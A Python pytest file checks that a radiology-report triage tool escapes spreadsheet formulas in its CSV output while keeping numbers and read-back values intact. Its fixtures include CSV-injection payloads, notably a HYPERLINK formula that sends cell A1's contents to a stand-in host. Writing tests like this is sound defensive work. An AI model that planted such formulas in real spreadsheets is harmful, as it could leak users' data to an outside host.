"""CSV outputs never hand a spreadsheet a formula (OWASP CSV injection), keep numbers numbers, and read back
through triage's own reader as they were written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from triage.cli import main
from triage.offline.formulas import escape, safe_dict_writer, unescape
from triage.offline.tables import iter_rows

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1-555-0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "- No acute intracranial hemorrhage.",
    "'=1+1",  # already quoted once: kept so (a second quote is added, the reader removes one)
]
LEFT_AS_IS = ["-0.5", "+3", "-1,5", "1e-3", "-2.5e+4", "-", "+", "", "No bleed.", "'quoted", "a=b", "5%"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_like_cell_gets_one_quote_and_reads_back(value: str) -> None:
    assert escape(value) == "'" + value
    assert unescape(escape(value)) == value


@pytest.mark.parametrize("value", LEFT_AS_IS)
def test_numbers_signs_and_text_are_left_as_they_are(value: str) -> None:
    assert escape(value) == value
    assert unescape(value) == value


def test_non_strings_are_never_touched() -> None:
    assert [escape(v) for v in (-0.5, -3, None, True)] == [-0.5, -3, None, True]


def test_written_by_the_dict_writer_read_by_the_csv_module_and_by_triage(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    rows = [{"=col": v, "score": -0.25, "n": "-7"} for v in FORMULAS + LEFT_AS_IS]
    with path.open("w", newline="", encoding="utf-8") as handle:
        write = safe_dict_writer(handle, ["=col", "score", "n"])
        for row in rows:
            write(row)
    raw = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert raw[0] == ["'=col", "score", "n"]
    assert all(not cell.startswith(("=", "@", "\t", "\r")) for line in raw for cell in line), raw
    assert {line[1] for line in raw[1:]} == {"-0.25"} and {line[2] for line in raw[1:]} == {"-7"}
    back = [row.data for row in iter_rows(path, "csv")]
    assert [r["=col"] for r in back] == FORMULAS + LEFT_AS_IS  # type: ignore[index]


def test_label_csv_output_escapes_formulas_keeps_scores_and_reads_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "reports.csv"
    texts = [
        '=HYPERLINK("http://x.example/","Acute subdural hematoma")',
        "- Acute subdural hematoma along the left convexity.",
        "No acute intracranial abnormality.",
    ]
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text", "site_score"])
        writer.writerows([["@A1", texts[0], "-0.5"], ["+1-555-0100", texts[1], "+2"], ["3", texts[2], "-1"]])
    out = tmp_path / "labels.csv"
    with pytest.raises(SystemExit) as info:
        main(["label", str(source), "--out", str(out), "--model", str(ROOT / "model_artifacts")])
    assert info.value.code in (0, None), capsys.readouterr().err
    raw = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [r["text"] for r in raw] == ["'" + texts[0], "'" + texts[1], texts[2]]
    assert [r["id"] for r in raw] == ["'@A1", "'+1-555-0100", "3"]
    assert [r["site_score"] for r in raw] == ["-0.5", "+2", "-1"]  # numbers stay numbers
    assert all(0.0 <= float(r["probability"]) <= 1.0 for r in raw)
    back = [row.data for row in iter_rows(out, "csv")]
    assert [(r["id"], r["text"], r["site_score"]) for r in back] == [  # type: ignore[index]
        ("@A1", texts[0], "-0.5"),
        ("+1-555-0100", texts[1], "+2"),
        ("3", texts[2], "-1"),
    ]
